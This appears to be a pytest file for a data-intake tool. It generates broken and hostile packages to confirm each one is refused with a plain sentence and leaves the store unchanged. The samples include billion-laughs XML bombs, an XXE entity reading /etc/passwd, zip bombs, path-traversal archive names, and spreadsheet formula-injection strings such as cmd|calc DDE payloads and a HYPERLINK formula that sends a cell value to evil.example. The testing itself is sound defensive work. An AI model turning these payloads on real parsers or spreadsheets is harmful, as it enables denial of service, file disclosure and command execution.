"""A corpus of broken and hostile packages: each is refused with a sentence, and nothing changes.

Every item is written by its test into ``tmp_path`` and loaded with ``ingest`` into a store that
already holds the minimal package. The refusal must be a ``PackageRefused`` (``UnsafeFile`` for
bombs and oversize files) whose text is a sentence — no traceback, no planted personal value —
and the store's fingerprint must be the same before and after.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from conftest import PackageBuilder, builder_from_minimal, csv_text

from evaluation.errors import PackageRefused, UnsafeFile
from evaluation.intake.ingest import check_package, ingest
from evaluation.intake.limits import MB, Limits
from evaluation.intake.problems import ValidationReport
from evaluation.store.database import Store
from evaluation.views.spreadsheet import DANGEROUS_PREFIXES, write_problem_list, write_rows

REPO = Path(__file__).resolve().parents[1]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


# -- building blocks ------------------------------------------------------------------------------
def minimal(root: Path, *drop: str) -> PackageBuilder:
    pkg = builder_from_minimal(root / "src")
    for t in drop:
        pkg.drop(t)
    return pkg


def core(root: Path) -> PackageBuilder:
    """The required tables only: cheaper to validate than the whole minimal package."""
    return minimal(root, "contacts", "custody_events", "funding")


def write_zip(path: Path, members: dict[str, bytes], level: int = 6) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def minimal_members(root: Path) -> dict[str, bytes]:
    return {f"{n}.csv": d for n, d in minimal(root).files().items()}


def xlsx_members(root: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(minimal(root).write("xlsx")) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def about_sheet_with(root: Path, prolog: str, organisation: str) -> Path:
    """The minimal workbook with its `about` sheet XML rewritten (for XML attacks)."""
    members = xlsx_members(root)
    # the name is written as text or, by openpyxl with lxml installed, with "ü" as "&#252;"
    name = re.compile(r"Br(?:ü|&#252;)ckenbau Exit e\.V\. \(fictional\)")
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    assert name.search(sheet)
    attacked = prolog + name.sub(lambda _m: organisation, sheet)
    members["xl/worksheets/sheet1.xml"] = attacked.encode()
    return write_zip(root / "package.xlsx", members)


LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10)
    ).replace("&lol1;", "&lol;")
    + "]>"
)


def shared_strings_bomb(root: Path) -> Path:
    """A workbook whose organisation is a shared string defined by a billion-laughs DTD."""
    members = xlsx_members(root)
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(
        r'<c r="B2" t="inlineStr"><is><t>[^<]*</t></is></c>', '<c r="B2" t="s"><v>0</v></c>', sheet
    )
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    members["xl/sharedStrings.xml"] = (
        '<?xml version="1.0"?>'
        + LAUGHS.replace("worksheet", "sst")
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()
    types = (
        members["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
    )
    members["[Content_Types].xml"] = types.encode()
    rels = (
        members["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
        )
    )
    members["xl/_rels/workbook.xml.rels"] = rels.encode()
    return write_zip(root / "package.xlsx", members)


def zeros_member(path: Path, name: str, size: int, extra: dict[str, bytes]) -> Path:
    """A zip (or workbook) with a member of ``size`` zero bytes, streamed (little memory)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for n, data in extra.items():
            if n != name:
                zf.writestr(n, data)
        with zf.open(name, "w") as fh:
            chunk = b"\0" * MB
            for _ in range(size // MB):
                fh.write(chunk)
    return path


def patch_zip(path: Path, member: str, *, usize: int | None = None, flags: int = 0) -> Path:
    """Rewrite a member's declared size and/or flag bits in both of its zip headers."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    local = info.header_offset
    central = next(
        m.start()
        for m in re.finditer(rb"PK\x01\x02", data)
        if data[m.start() + 46 : m.start() + 46 + len(member)] == member.encode()
    )
    for off, flag_at, size_at in ((local, 6, 22), (central, 8, 24)):
        old_flags = struct.unpack_from("<H", data, off + flag_at)[0]
        struct.pack_into("<H", data, off + flag_at, old_flags | flags)
        if usize is not None:
            struct.pack_into("<I", data, off + size_at, usize)
    path.write_bytes(bytes(data))
    return path


def folder(root: Path, files: dict[str, bytes]) -> Path:
    path = root / "package"
    path.mkdir()
    for name, data in files.items():
        (path / name).write_bytes(data)
    return path


def with_table(pkg: PackageBuilder, table: str, data: bytes) -> dict[str, bytes]:
    files = {f"{n}.csv": d for n, d in pkg.files().items()}
    files[f"{table}.csv"] = data
    return files


def contacts_text(rows: int, tail: bytes = b"") -> bytes:
    line = b"A-001,2024-01-05,60,in_person,counselling,social_worker,community\n"
    return b"case_ref,contact_on,minutes,mode,activity,staff_role,setting\n" + line * rows + tail


# -- the corpus -----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Hostile:
    id: str
    make: Callable[[Path], Path]
    says: tuple[str, ...] = ()
    """Words the refusal must contain (case-insensitive)."""
    unsafe: bool = False
    limits: Limits | None = None
    planted: tuple[str, ...] = ()
    """Values that must never appear in any message."""
    names: tuple[str, str | None] | None = None
    """(table, column) a problem of the report must name."""


def _xlsx(root: Path) -> Path:
    return minimal(root).write("xlsx")


def _cut(path: Path, out: Path) -> Path:
    data = path.read_bytes()
    out.write_bytes(data[: len(data) // 2])
    return out


def _bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def make(root: Path) -> Path:
        path = root / name
        path.write_bytes(data)
        return path

    return make


def _identifier_headers(root: Path) -> Path:
    pkg = core(root)
    for i, row in enumerate(pkg.tables["cases"]):
        row |= {
            "client_name": "Example",
            "Email": "x",
            "DOB": "",
            "notes": "calm",
            "max.mustermann@example.org": str(i),
        }
    return pkg.write("folder")


PERSONAL = {
    ("programmes", "programme_name"): "max.mustermann@example.org",
    ("funding", "funder"): "DE89 3704 0044 0532 0130 00",
    ("cases", "region"): "10.20.30.40",
    ("about", "value"): "+49 (0)171 234-5678",
}


def _personal_cells(root: Path) -> Path:
    pkg = minimal(root)
    pkg.tables["programmes"][0]["programme_name"] = (
        "Contact " + PERSONAL[("programmes", "programme_name")]
    )
    pkg.tables["funding"][1]["funder"] = "Account " + PERSONAL[("funding", "funder")]
    pkg.tables["cases"][2]["region"] = PERSONAL[("cases", "region")]
    pkg.tables["about"][0]["value"] = "Call " + PERSONAL[("about", "value")]
    pkg.tables["about"][2]["value"] = "born 12.03.1994"
    return pkg.write("zip")


def _date_of_birth(root: Path) -> Path:
    pkg = core(root)
    pkg.tables["programmes"][1]["programme_name"] = "Mentoring for M. (born 1994-03-12)"
    return pkg.write("xlsx")


def _unnamed_column(root: Path) -> Path:
    pkg = core(root)
    header = [*pkg.tables["cases"][0], ""]
    rows = [
        [*r.values(), "Max Mustermann" if i == 1 else ""] for i, r in enumerate(pkg.tables["cases"])
    ]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return folder(root, with_table(pkg, "cases", out.getvalue().encode()))


def _personal_sheet(root: Path) -> Path:
    pkg = core(root)
    pkg.tables["client names"] = [{"case_ref": "A-001", "surname": "Mustermann"}]
    return pkg.write("xlsx")


FORMULA_TABLES = ("=cmd|' -C calc'!A0", "@SUM(1+1)", "+2+3", "-2+3")


def _formula_tables(root: Path) -> Path:
    pkg = core(root)
    for name in FORMULA_TABLES:
        pkg.tables[name] = [{"x": '=HYPERLINK("http:\\\\evil.example","open")'}]
    return pkg.write("zip")


def _latin1(root: Path) -> Path:
    pkg = minimal(root)
    return folder(root, with_table(pkg, "about", csv_text(pkg.tables["about"]).encode("latin-1")))


def _late_latin1(root: Path) -> Path:
    """Valid for the first megabyte (the header check), Latin-1 further down."""
    tail = "A-002,2024-04-02,90,in_person,counselling,social_worker,caf\xe9\n".encode("latin-1")
    return folder(root, with_table(minimal(root), "contacts", contacts_text(20_000, tail)))


def _zip_of_minimal(root: Path, **extra: bytes) -> Path:
    return write_zip(root / "package.zip", minimal_members(root) | extra)


def _sparse(root: Path) -> Path:
    path = minimal(root).write("xlsx")
    wb = openpyxl.load_workbook(path)
    wb["cases"]["XFD1048576"] = "x"
    wb.save(path)
    return path


def _wide(root: Path) -> Path:
    path = minimal(root).write("xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb["contacts"]
    for col in range(8, 301):
        ws.cell(row=1, column=col, value=f"c{col}")
        ws.cell(row=2, column=col, value=col)
    wb.save(path)
    return path


def _lying(root: Path) -> Path:
    path = zeros_member(
        root / "package.zip",
        "contacts.csv",
        20 * MB,
        {k: v for k, v in minimal_members(root).items() if k != "contacts.csv"},
    )
    return patch_zip(path, "contacts.csv", usize=2000)


def _nested(root: Path) -> Path:
    inner = write_zip(root / "inner.zip", minimal_members(root))
    return write_zip(root / "package.zip", minimal_members(root) | {"more.zip": inner.read_bytes()})


def _encrypted(root: Path) -> Path:
    return patch_zip(_zip_of_minimal(root), "cases.csv", flags=0x1)


CORPUS: list[Hostile] = [
    Hostile("empty-xlsx", _bytes("package.xlsx", b""), ("empty",)),
    Hostile("empty-zip", _bytes("package.zip", b""), ("empty",)),
    Hostile("empty-folder", lambda r: folder(r, {}), ("no CSV",)),
    Hostile("truncated-xlsx", lambda r: _cut(_xlsx(r), r / "package.xlsx"), ("damaged",)),
    Hostile("truncated-zip", lambda r: _cut(_zip_of_minimal(r), r / "cut.zip"), ("damaged",)),
    Hostile(
        "text-renamed-xlsx",
        _bytes("package.xlsx", b"case_ref,opened_on\nA-1,2024\n"),
        ("not really an .xlsx",),
    ),
    Hostile(
        "pdf-renamed-zip",
        _bytes("package.zip", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<<>>\n"),
        ("not really a .zip",),
    ),
    Hostile(
        "zip-renamed-xlsx",
        lambda r: write_zip(r / "package.xlsx", minimal_members(r)),
        ("not an Excel",),
    ),
    Hostile("ole-renamed-xlsx", _bytes("package.xlsx", OLE + bytes(4096)), ("old .xls",)),
    Hostile("xls-ending", _bytes("package.xls", OLE + bytes(4096)), (".xls file", ".xlsx")),
    Hostile(
        "ods-ending",
        lambda r: write_zip(r / "package.ods", {"content.xml": b"<x/>"}),
        (".ods file",),
    ),
    Hostile("single-csv", lambda r: folder(r, minimal_members(r)) / "cases.csv", ("single CSV",)),
    Hostile(
        "billion-laughs-sheet",
        lambda r: about_sheet_with(r, '<?xml version="1.0"?>' + LAUGHS, "&lol9;"),
        ("XML",),
        unsafe=True,
    ),
    Hostile("billion-laughs-shared-strings", shared_strings_bomb, ("XML",), unsafe=True),
    Hostile(
        "xxe-external-entity",
        lambda r: about_sheet_with(
            r,
            '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            "&xxe;",
        ),
        ("XML",),
        unsafe=True,
        planted=("root:",),
    ),
    Hostile(
        "doctype-after-64kb",
        lambda r: about_sheet_with(
            r, '<?xml version="1.0"?><!--' + "x" * 70_000 + "-->" + LAUGHS, "&lol9;"
        ),
        ("XML",),
        unsafe=True,
    ),
    Hostile(
        "zip-bomb",
        lambda r: zeros_member(r / "package.zip", "contacts.csv", 64 * MB, minimal_members(r)),
        ("zip bomb",),
        unsafe=True,
    ),
    Hostile(
        "xlsx-bomb",
        lambda r: zeros_member(r / "package.xlsx", "xl/media/image1.png", 64 * MB, xlsx_members(r)),
        ("zip bomb",),
        unsafe=True,
    ),
    Hostile(
        "unpacked-over-limit",
        lambda r: write_zip(
            r / "package.zip", minimal_members(r) | {"contacts.csv": contacts_text(40_000)}
        ),
        ("unpacks to",),
        unsafe=True,
        limits=Limits(max_unpacked_bytes=1 * MB),
    ),
    Hostile("lying-zip-header", _lying, ("damaged",)),
    Hostile("sparse-cell-XFD1048576", _sparse, ("columns",), unsafe=True),
    Hostile("too-many-columns", _wide, ("columns",), unsafe=True),
    Hostile(
        "path-traversal",
        lambda r: _zip_of_minimal(r, **{"../evil.csv": b"a,b\n"}),
        ("unsafe path",),
        unsafe=True,
    ),
    Hostile(
        "absolute-path",
        lambda r: _zip_of_minimal(r, **{"/tmp/evil.csv": b"a,b\n"}),
        ("unsafe path",),
        unsafe=True,
    ),
    Hostile("nested-zip", _nested, ("CSV table",)),
    Hostile(
        "zip-with-document",
        lambda r: _zip_of_minimal(r, **{"notes.docx": b"PK\3\4"}),
        ("CSV table",),
    ),
    Hostile(
        "zip-two-folders",
        lambda r: write_zip(
            r / "package.zip",
            {f"{'a' if 'case' in k else 'b'}/{k}": v for k, v in minimal_members(r).items()},
        ),
        ("several folders",),
    ),
    Hostile(
        "zip-too-many-files",
        lambda r: _zip_of_minimal(r, **{f"t{i}.csv": b"a\n" for i in range(250)}),
        ("files",),
        unsafe=True,
    ),
    Hostile("encrypted-member", _encrypted, ("password",), unsafe=True),
    Hostile(
        "folder-with-document",
        lambda r: folder(r, minimal_members(r) | {"report.pdf": b"%PDF-1.7"}),
        ("CSV table",),
    ),
    Hostile(
        "utf16-csv",
        lambda r: folder(
            r,
            with_table(
                minimal(r), "cases", csv_text(minimal(r / "x").tables["cases"]).encode("utf-16")
            ),
        ),
        ("cases.csv", "UTF-16", "UTF-8"),
    ),
    Hostile("latin1-csv", _latin1, ("about.csv", "not saved as UTF-8", "Save As")),
    Hostile(
        "latin1-after-first-megabyte",
        _late_latin1,
        ("contacts.csv", "not saved as UTF-8", "Save As"),
    ),
    Hostile(
        "ragged-row-extra-field",
        lambda r: folder(
            r,
            with_table(
                minimal(r),
                "contacts",
                contacts_text(3) + b"A-001,2024-01-05,60,phone,other,other,prison,surplus\n",
            ),
        ),
        ("contacts.csv", "line 5", "8 fields", "7"),
    ),
    Hostile(
        "ragged-row-missing-field",
        lambda r: folder(
            r, with_table(minimal(r), "contacts", contacts_text(3) + b"A-001,2024-01-05,60\n")
        ),
        ("contacts.csv", "line 5", "3 fields"),
    ),
    Hostile(
        "unterminated-quote",
        lambda r: folder(
            r,
            with_table(
                minimal(r), "contacts", contacts_text(3) + b'A-001,"2024-01-05,60,phone,other,x,y\n'
            ),
        ),
        ("contacts.csv", "line 5"),
    ),
    Hostile(
        "text-after-a-closing-quote",
        lambda r: folder(
            r,
            with_table(
                minimal(r),
                "contacts",
                contacts_text(
                    3, b'A-001,"2024-01"-05,60,phone,other,x,y\nA-001,2024-01-06,1,x,y,z,w\n'
                ),
            ),
        ),
        ("contacts.csv", "line 5"),
    ),
    Hostile(
        "nul-bytes",
        lambda r: folder(
            r, with_table(minimal(r), "cases", b"case_ref,programme_id\nA-1\0\0\0,P-OPEN\n")
        ),
        ("cases.csv", "not a text file"),
    ),
    Hostile(
        "line-over-10mb",
        lambda r: folder(
            r,
            with_table(
                minimal(r), "contacts", contacts_text(2) + b"A-001," + b"x" * (11 * MB) + b"\n"
            ),
        ),
        ("contacts.csv",),
    ),
    Hostile(
        "oversize-file",
        _xlsx,
        ("more than the limit",),
        unsafe=True,
        limits=Limits(max_file_bytes=2000),
    ),
    Hostile(
        "oversize-folder",
        lambda r: folder(r, minimal_members(r)),
        ("more than the limit",),
        unsafe=True,
        limits=Limits(max_file_bytes=500),
    ),
    Hostile(
        "semicolon-separated",
        lambda r: folder(
            r,
            with_table(
                minimal(r),
                "cases",
                csv_text(minimal(r / "x").tables["cases"]).replace(",", ";").encode(),
            ),
        ),
        ("cases.csv",),
        names=("cases", None),
    ),
    Hostile(
        "identifier-headers",
        _identifier_headers,
        ("personal data",),
        planted=("max.mustermann@example.org",),
        names=("cases", None),
    ),
    Hostile(
        "personal-data-in-cells",
        _personal_cells,
        ("problems to fix",),
        planted=(*PERSONAL.values(), "12.03.1994", "1994"),
        names=("programmes", "programme_name"),
    ),
    Hostile(
        "date-of-birth-in-xlsx-cell",
        _date_of_birth,
        (),
        planted=("1994-03-12",),
        names=("programmes", "programme_name"),
    ),
    Hostile(
        "values-in-unnamed-column",
        _unnamed_column,
        (),
        planted=("Mustermann",),
        names=("cases", None),
    ),
    Hostile(
        "sheet-named-client-names",
        _personal_sheet,
        (),
        planted=("Mustermann",),
        names=("client names", None),
    ),
    Hostile(
        "formula-table-names",
        _formula_tables,
        (),
        planted=("HYPERLINK",),
        names=("@SUM(1+1)", None),
    ),
]


def refusal_text(exc: PackageRefused) -> str:
    """Everything a person gets to see about a refusal."""
    parts = [str(exc)]
    if isinstance(exc.report, ValidationReport):
        parts += [exc.report.summary()] + [p.sentence() for p in exc.report.problems]
        parts += [str(v) for row in exc.report.as_rows() for v in row.values()]
    return "\n".join(parts)


def assert_clean_sentence(message: str, everything: str = "") -> None:
    """A plain sentence (ends with a full stop), and no trace of Python anywhere."""
    assert message.strip() and re.search(r"\w.*\.\s*$", message.splitlines()[0]), message
    for text in (message, everything):
        assert "Traceback" not in text and 'File "' not in text and "Error:" not in text


def test_corpus_is_large_and_unique() -> None:
    assert len(CORPUS) >= 25 and len({h.id for h in CORPUS}) == len(CORPUS)


SLOW_HOSTILE = {
    "date-of-birth-in-xlsx-cell",
    "formula-table-names",
    "identifier-headers",
    "semicolon-separated",
    "sheet-named-client-names",
    "values-in-unnamed-column",
}
"""Corpus items that take a second or more; the fast lane (``-m "not slow"``) keeps the rest."""


@pytest.mark.parametrize(
    "item",
    [pytest.param(h, marks=pytest.mark.slow) if h.id in SLOW_HOSTILE else h for h in CORPUS],
    ids=lambda h: h.id,
)
def test_hostile_package_is_refused(item: Hostile, loaded_store: Store, tmp_path: Path) -> None:
    path = item.make(tmp_path)
    before = loaded_store.fingerprint()
    with pytest.raises(PackageRefused) as info:
        ingest(path, loaded_store, limits=item.limits)
    exc = info.value
    text = refusal_text(exc)
    assert_clean_sentence(str(exc), text)
    if item.unsafe:
        assert isinstance(exc, UnsafeFile), text
    for word in item.says:
        assert word.lower() in text.lower(), text
    for value in item.planted:
        assert value not in text
    if item.names:
        table, column = item.names
        assert isinstance(exc.report, ValidationReport), text
        assert any(
            p.table == table and p.column == column and p.severity == "error"
            for p in exc.report.problems
        ), text
    assert loaded_store.fingerprint() == before


@pytest.mark.slow
def test_personal_data_problems_name_every_cell(tmp_path: Path, loaded_store: Store) -> None:
    with pytest.raises(PackageRefused) as info:
        ingest(_personal_cells(tmp_path), loaded_store)
    report = info.value.report
    assert isinstance(report, ValidationReport) and report.gate_refused
    found = {(p.table, p.column, p.rule, p.rows) for p in report.problems if p.gate}
    assert found == {
        ("programmes", "programme_name", "personal_email", (2,)),
        ("funding", "funder", "personal_iban", (3,)),
        ("cases", "region", "personal_ip", (4,)),
        ("about", "value", "personal_phone", (2,)),
        ("about", "value", "personal_date", (4,)),
    }


@pytest.mark.slow
def test_identifier_headers_are_each_named(tmp_path: Path) -> None:
    from evaluation.intake.ingest import check_package

    report = check_package(_identifier_headers(tmp_path))
    flagged = [p.message for p in report.problems if p.rule == "identifier_column"]
    for name in ("client_name", "Email", "DOB", "notes"):
        assert any(f'"{name}"' in m for m in flagged), flagged
    unknown = " ".join(p.message for p in report.problems if p.rule == "unknown_column")
    assert "(name not shown)" in unknown and "mustermann" not in unknown.lower()


@pytest.mark.slow
def test_semicolon_csv_is_not_called_empty(tmp_path: Path, loaded_store: Store) -> None:
    """A `;`-separated export (German Excel's default) has rows; the report must not tell the
    user that the table "has a header but no rows"."""
    item = next(h for h in CORPUS if h.id == "semicolon-separated")
    with pytest.raises(PackageRefused) as info:
        ingest(item.make(tmp_path), loaded_store)
    said = [p.sentence() for p in info.value.report.problems if p.table == "cases"]
    assert not any("no rows" in s for s in said), said


# -- formula injection ----------------------------------------------------------------------------
def _inert(value: object) -> bool:
    return not (isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES))


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_problem_list_neutralises_formulas(
    tmp_path: Path, loaded_store: Store, suffix: str
) -> None:
    with pytest.raises(PackageRefused) as info:
        ingest(_formula_tables(tmp_path), loaded_store)
    report = info.value.report
    assert {p.table for p in report.problems} >= set(FORMULA_TABLES)
    out = write_problem_list(report, tmp_path / f"problems{suffix}")
    if suffix == ".csv":
        cells = [v for row in csv.reader(out.open(encoding="utf-8")) for v in row]
    else:
        ws = openpyxl.load_workbook(out)["problems"]
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
        cells = [c.value for row in ws.iter_rows() for c in row]
    assert all(_inert(v) for v in cells), [v for v in cells if not _inert(v)]
    assert any(str(v).startswith("'=cmd") for v in cells)


FORMULAS = {
    ("programmes", "programme_name"): '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    ("funding", "funder"): "+cmd|' /C calc'!A0",
    ("cases", "region"): "@SUM(1+1)",
    ("about", "value"): "-2+3+cmd|' /C notepad'!A0",
}


@pytest.mark.slow
def test_formula_values_in_free_text_are_refused_or_stored_inert(
    tmp_path: Path, store: Store
) -> None:
    pkg = minimal(tmp_path)
    for (table, column), value in FORMULAS.items():
        row = 2 if table == "about" else 0
        pkg.tables[table][row][column] = value
    try:
        ingest(pkg.write("folder"), store)
    except PackageRefused as exc:
        text = refusal_text(exc)
        assert_clean_sentence(str(exc), text)
        assert not any(v in text for v in FORMULAS.values())
        return
    cur = store.cursor()
    stored = {
        ("programmes", "programme_name"): cur.execute(
            "SELECT programme_name FROM programmes WHERE programme_id = 'P-OPEN'"
        ).fetchone()[0],
        ("funding", "funder"): cur.execute(
            "SELECT funder FROM funding WHERE programme_id = 'P-OPEN'"
        ).fetchone()[0],
        ("cases", "region"): cur.execute(
            "SELECT region FROM cases WHERE case_key = ?", [store.case_key("A-001")]
        ).fetchone()[0],
        ("about", "value"): cur.execute("SELECT source_system FROM submissions").fetchone()[0],
    }
    assert stored == FORMULAS  # kept verbatim, as data
    out = write_rows(tmp_path / "export.xlsx", ["value"], [[v] for v in stored.values()])
    ws = openpyxl.load_workbook(out).active
    values = [c.value for c in ws["A"][1:]]
    assert all(c.data_type != "f" for c in ws["A"])
    assert values == ["'" + v for v in stored.values()]


# -- a million junk rows --------------------------------------------------------------------------
@pytest.mark.slow
def test_million_junk_rows_are_counted_and_listed_briefly(
    tmp_path: Path, loaded_store: Store
) -> None:
    n = 1_000_000
    junk = b"case_ref,contact_on,minutes,mode,activity,staff_role,setting\n" + (
        b"A-001,someday,lots,pigeon,juggling,wizard,moon\n" * n
    )
    path = folder(tmp_path, with_table(minimal(tmp_path), "contacts", junk))
    before = loaded_store.fingerprint()
    started = time.monotonic()
    with pytest.raises(PackageRefused) as info:
        ingest(path, loaded_store)
    elapsed = time.monotonic() - started
    report = info.value.report
    problems = {(p.column, p.rule): p for p in report.problems if p.table == "contacts"}
    assert set(problems) == {
        ("contact_on", "date"),
        ("minutes", "integer"),
        ("mode", "vocab"),
        ("activity", "vocab"),
        ("staff_role", "vocab"),
        ("setting", "vocab"),
    }
    for p in problems.values():
        assert p.count == n and p.rows == (2, 3, 4, 5, 6)
        assert "rows 2, 3, 4, 5, 6 and 999,995 more:" in p.sentence()
    assert report.row_counts["contacts"] == n
    assert loaded_store.fingerprint() == before
    assert elapsed < 60, f"{elapsed:.0f} s for a million rows"


# -- the CLI end to end ---------------------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.parametrize("item", ["latin1-csv", "truncated-xlsx"])
def test_cli_refuses_with_a_sentence(tmp_path: Path, item: str) -> None:
    bad = next(h for h in CORPUS if h.id == item).make(tmp_path)
    db = tmp_path / "cli.duckdb"
    run = subprocess.run(
        [sys.executable, "-m", "evaluation", "ingest", str(bad), "--db", str(db)],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=120,
    )
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stderr + run.stdout
    assert any(w in run.stderr for w in ("UTF-8", "damaged")), run.stderr
    with Store.open(db) as s:
        assert s.submissions() == []
        assert {
            n: c for n, (c, _h) in s.fingerprint().items() if n != "schema_migrations" and c
        } == {}


@pytest.mark.slow
def test_unicode_lookalikes_in_free_text_neither_crash_nor_refuse(tmp_path: Path) -> None:
    """`AB12` and twelve KELVIN SIGNs once crashed the IBAN check; it is just text."""
    pkg = core(tmp_path)
    pkg.tables["programmes"][0]["programme_name"] = "AB12" + "\u212a" * 12
    report = check_package(pkg.write("folder"))
    assert report.ok, report.summary()
